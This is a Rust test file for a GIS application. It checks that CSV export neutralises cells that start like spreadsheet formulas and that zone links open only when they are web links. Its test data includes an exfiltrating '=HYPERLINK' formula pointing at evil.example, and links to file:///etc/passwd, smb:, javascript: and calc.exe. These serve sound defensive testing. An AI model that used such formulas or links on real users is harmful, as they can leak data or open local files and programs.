//! Files come from anyone: a zone's link opens only when it is a web link, and a CSV export
//! never hands a spreadsheet a formula (tests/data/hostile/hostile_zones.geojson: names and
//! communes that start like formulas, links to file:, smb:, javascript: and a program).

mod common;

use egui_kittest::kittest::Queryable;
use zae_atlas::Command;
use zae_atlas::io::{export, load_path};
use zae_atlas::store::Dataset;

const HOSTILE: &str = "tests/data/hostile/hostile_zones.geojson";

fn hostile() -> Dataset {
    let file = load_path(std::path::Path::new(HOSTILE)).expect("the hostile file loads");
    let mut data = Dataset::default();
    data.add_loaded(file, "hostile_zones.geojson", None);
    data
}

#[test]
fn a_csv_export_of_hostile_text_holds_no_formula_and_keeps_its_numbers() {
    let data = hostile();
    assert_eq!(data.zones.len(), 6);
    let dir = tempfile::tempdir().expect("dir");
    let out = dir.path().join("zones.csv");
    export::export(data.zones.iter(), &out).expect("exported");
    let mut reader = csv::Reader::from_path(&out).expect("CSV");
    let header = reader.headers().expect("header").clone();
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let (name, commune, surface, jobs) = (
        column("name"),
        column("commune"),
        column("surface_declared_ha"),
        column("jobs"),
    );
    let mut names = Vec::new();
    let mut surfaces = Vec::new();
    for record in reader.records() {
        let record = record.expect("record");
        for (i, cell) in record.iter().enumerate() {
            let first = cell.chars().next();
            let is_number = cell.parse::<f64>().is_ok();
            assert!(
                is_number || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "column {} starts like a formula: {cell:?}",
                &header[i]
            );
        }
        names.push(record[name].to_string());
        assert!(!record[commune].starts_with('='), "{:?}", &record[commune]);
        surfaces.push(record[surface].parse::<f64>().expect("a number"));
        if !record[jobs].is_empty() {
            record[jobs].parse::<f64>().expect("jobs stay a number");
        }
    }
    assert_eq!(
        names,
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "'+33 cmd",
            "'-2+3",
            "'@SUM(1+1)*cmd",
            // The reader trims the tab; what is left starts like a formula, and is neutralised.
            "'=1+1",
            "Zone honnête - Nord",
        ]
    );
    // A negative number is a number, not a formula: it is written as it is.
    assert_eq!(surfaces, [10.5, -3.0, 4.0, 2.25, 1.0, 3.0]);
}

#[test]
fn only_web_links_of_a_zone_are_links() {
    let mut h = common::harness_with(common::offline(vec![HOSTILE.into()]));
    h.run_steps(3);
    common::wait_for_loads(&mut h);
    let opened = |h: &egui_kittest::Harness<'static, zae_atlas::ZaeApp>| {
        h.output()
            .platform_output
            .commands
            .iter()
            .filter_map(|c| match c {
                egui::OutputCommand::OpenUrl(u) => Some(u.url.clone()),
                _ => None,
            })
            .collect::<Vec<_>>()
    };
    let zone_with = |h: &egui_kittest::Harness<'static, zae_atlas::ZaeApp>, id: &str| {
        h.state()
            .dataset()
            .zones
            .iter()
            .position(|z| z.site_id.as_deref() == Some(id))
            .expect(id)
    };
    for (id, url) in [
        ("H0", "file:///etc/passwd"),
        ("H1", "smb://server/share"),
        ("H2", "javascript:alert(1)"),
        ("H5", "calc.exe"),
    ] {
        let zone = zone_with(&h, id);
        let id = h.state().zone_id(zone).expect("zone");
        h.state_mut().push(Command::Focus(id));
        h.run_steps(3);
        // Shown as plain text: clicking it opens nothing.
        let shown = h.get_by_label(url);
        shown.click();
        h.run_steps(2);
        assert!(opened(&h).is_empty(), "{url}: {:?}", opened(&h));
        // Even a command asking for it opens nothing.
        h.state_mut().push(Command::OpenUrl(url.into()));
        h.run_steps(1);
        assert!(opened(&h).is_empty(), "{url}: {:?}", opened(&h));
    }
    // A web link is a link, and opens (so the checks above can fail).
    let zone = zone_with(&h, "H3");
    let id = h.state().zone_id(zone).expect("zone");
    h.state_mut().push(Command::Focus(id));
    h.run_steps(3);
    h.get_by_label("www.example.org/zone").click();
    h.run_steps(1);
    assert_eq!(opened(&h), ["https://www.example.org/zone"]);
}
